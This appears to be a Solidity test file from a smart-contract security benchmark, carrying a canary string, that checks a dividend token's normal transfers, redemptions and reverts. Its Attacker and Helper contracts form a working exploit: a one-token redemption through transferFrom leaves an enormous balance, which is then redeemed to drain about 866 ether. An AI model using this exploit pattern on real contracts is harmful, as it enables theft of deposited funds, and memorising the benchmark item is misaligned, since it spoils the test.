pragma solidity 0.5.17;

import "./DividendToken.sol";

// assay-canary-fcf8353e-f2b2-444c-997a-60ea0ca60040

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ANN = address(0xA11);
    address constant BEN = address(0xB11);

    DividendToken internal token;
    Attacker internal thief;

    function setUp() public {
        token = new DividendToken();
        vm.deal(ANN, 1100 ether);
        vm.deal(BEN, 20 ether);
        vm.prank(ANN);
        token.mint.value(1100 ether)();
        thief = new Attacker(token);
        vm.deal(address(thief), 1 ether);
    }

    function test_Regular() public {
        require(token.balanceOf(ANN) == 990 ether && token.claimable(ANN) == 0, "first");
        vm.prank(BEN);
        token.mint.value(10 ether)();
        require(token.balanceOf(BEN) == 9 ether && token.totalSupply() == 999 ether, "second");
        require(token.claimable(ANN) > 0.999999 ether && token.claimable(ANN) <= 1 ether, "dividend");
        vm.prank(BEN);
        token.redeem(4 ether);
        require(token.balanceOf(BEN) == 5 ether, "redeemed");
        vm.prank(BEN);
        token.transfer(ANN, 1 ether);
        vm.prank(BEN);
        token.transfer(address(token), 1 ether);
        require(token.balanceOf(BEN) == 3 ether, "left");
        uint256 due = token.claimable(BEN);
        require(due >= 4.5 ether && due < 4.51 ether, "due");
        vm.prank(BEN);
        token.claim();
        require(BEN.balance == 10 ether + due && token.claimable(BEN) == 0, "claimed");

        vm.prank(BEN);
        token.approve(address(this), 2 ether);
        token.transferFrom(BEN, address(0xCAFE), 1 ether);
        require(token.balanceOf(address(0xCAFE)) == 1 ether && token.balanceOf(BEN) == 2 ether, "from");
        (bool ok, ) = address(token).call(
            abi.encodeWithSignature("transferFrom(address,address,uint256)", BEN, address(0xCAFE), 1 ether + 1)
        );
        require(!ok, "allowance");

        // the agent of a holder redeems tokens; both hold some
        token.mint.value(0)();
        vm.prank(BEN);
        token.transfer(address(this), 1 ether);
        uint256 supply = token.totalSupply();
        token.transferFrom(BEN, address(token), 1 ether);
        require(token.totalSupply() == supply - 1 ether, "redeemed by agent");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Tokens and ether that are not there.
    function test_RefusesPayments() public {
        vm.prank(BEN);
        token.mint.value(10 ether)();
        refuses(BEN, "sender does not have enough tokens");
        token.transfer(ANN, 9 ether + 1);
        refuses(BEN, "redeemer does not have enough tokens");
        token.redeem(9 ether + 1);
        vm.prank(BEN);
        token.approve(address(this), 100 ether);
        vm.expectRevert("source does not have enough tokens");
        token.transferFrom(BEN, ANN, 9 ether + 1);
        vm.deal(address(token), 0);
        refuses(ANN, "ether was not accepted");
        token.claim();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 866 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(token);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// A second account that owns nothing.
contract Helper {
    function () external payable {}

    /// Redeems one token of its owner's, and then has as many as a number can hold.
    function run(DividendToken token, uint256 tokens) external {
        token.transferFrom(msg.sender, address(token), 1);
        token.transfer(msg.sender, tokens);
    }
}

contract Attacker {
    DividendToken internal token;

    constructor(DividendToken token_) public {
        token = token_;
    }

    function () external payable {}

    function run() external {
        token.mint.value(1 ether)();
        Helper helper = new Helper();
        token.approve(address(helper), 1);
        uint256 goal = token.totalSupply() - token.balanceOf(address(this)) - 1;
        helper.run(token, goal);
        token.redeem(token.totalSupply());
        token.claim();
    }
}
